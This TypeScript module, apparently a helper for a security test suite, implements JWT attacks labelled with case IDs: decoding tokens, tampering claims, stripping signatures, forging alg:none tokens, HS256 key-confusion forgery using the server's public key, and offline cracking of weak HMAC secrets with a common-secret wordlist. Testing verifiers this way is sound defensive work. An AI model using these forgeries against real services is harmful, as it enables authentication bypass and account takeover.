/**
 * What Mallory can do to a JWT she holds: read it (it is only encoded),
 * edit its claims, strip or fake the signature, sign it with `alg: none`,
 * MAC it with the server's public key, or crack a weak HMAC secret offline.
 */
import { SignJWT, compactVerify, decodeJwt, decodeProtectedHeader, exportSPKI, importJWK, type CryptoKey, type JWK } from 'jose';
import { toBase64Url } from '../random';

const encoder = new TextEncoder();
const segment = (value: unknown) => toBase64Url(encoder.encode(JSON.stringify(value)));

/** Fields to set in a token's payload or header; `null` removes a field. */
export type ClaimPatch = Record<string, unknown>;

/** `base` with `patch` applied: each field set, or removed where the patch says null. */
export function applyPatch(base: Record<string, unknown>, patch: ClaimPatch = {}): Record<string, unknown> {
  const out = { ...base };
  for (const [key, value] of Object.entries(patch)) {
    if (value === null) delete out[key];
    else out[key] = value;
  }
  return out;
}

/** Anyone can decode a signed JWT: base64url is not encryption (JWT-11). */
export function readToken(token: string): { header: Record<string, unknown>; payload: Record<string, unknown> } {
  return { header: decodeProtectedHeader(token) as Record<string, unknown>, payload: decodeJwt(token) as Record<string, unknown> };
}

/** Edits the payload and keeps the old signature (JWT-04). */
export function tamperPayload(token: string, patch: ClaimPatch): string {
  const [header, , signature] = token.split('.');
  return `${header}.${segment(applyPatch(readToken(token).payload, patch))}.${signature}`;
}

/** Removes the signature but keeps the header's alg. */
export function stripSignature(token: string): string {
  const [header, payload] = token.split('.');
  return `${header}.${payload}.`;
}

/** An unsigned token claiming `alg: none` in the given casing (JWT-01). */
export function forgeAlgNone(token: string, patch: ClaimPatch = {}, alg = 'none'): string {
  const { header, payload } = readToken(token);
  return `${segment({ ...header, alg })}.${segment(applyPatch(payload, patch))}.`;
}

/**
 * Re-signs the claims with a key of Mallory's choosing; `headerPatch` edits
 * the header too (a hostile `kid`, say), though `alg` is always the key's.
 */
export async function signWith(token: string, key: Uint8Array | CryptoKey, alg: string, patch: ClaimPatch = {}, headerPatch: ClaimPatch = {}): Promise<string> {
  const { header, payload } = readToken(token);
  return new SignJWT(applyPatch(payload, patch)).setProtectedHeader({ ...applyPatch(header, headerPatch), alg }).sign(key);
}

/**
 * HS256 MACed with one of the server's public keys, as PEM, as the secret
 * (JWT-03): whichever key the JWKS lists, RS256, ES256 (the default) or
 * EdDSA. The flaw is a verifier that takes the header's `alg`, not RSA.
 */
export async function forgeWithPublicKey(token: string, publicJwk: JWK, patch: ClaimPatch = {}): Promise<string> {
  const publicKey = (await importJWK(publicJwk, publicJwk.alg)) as CryptoKey;
  const pem = await exportSPKI(publicKey);
  return signWith(token, encoder.encode(pem), 'HS256', patch);
}

/** Common secrets from tutorials, defaults and leaks: what a cracker tries first (JWT-09). */
export const COMMON_SECRETS: readonly string[] = [
  'secret', 'password', '123456', 'changeme', 'jwt', 'jwtsecret', 'jwt-secret', 'secretkey', 'mysecret',
  'your-256-bit-secret', 'shhhhh', 'key', 'admin', 'letmein', 'qwerty', 'supersecret', 'topsecret', 'default',
];

/** Tries each candidate offline against the token's MAC; no request reaches the server. */
export async function crackHmacSecret(token: string, wordlist: readonly string[] = COMMON_SECRETS): Promise<{ secret?: string; tried: number }> {
  let tried = 0;
  for (const word of wordlist) {
    tried += 1;
    try {
      await compactVerify(token, encoder.encode(word), { algorithms: ['HS256'] });
      return { secret: word, tried };
    } catch {
      // wrong guess; next word
    }
  }
  return { tried };
}
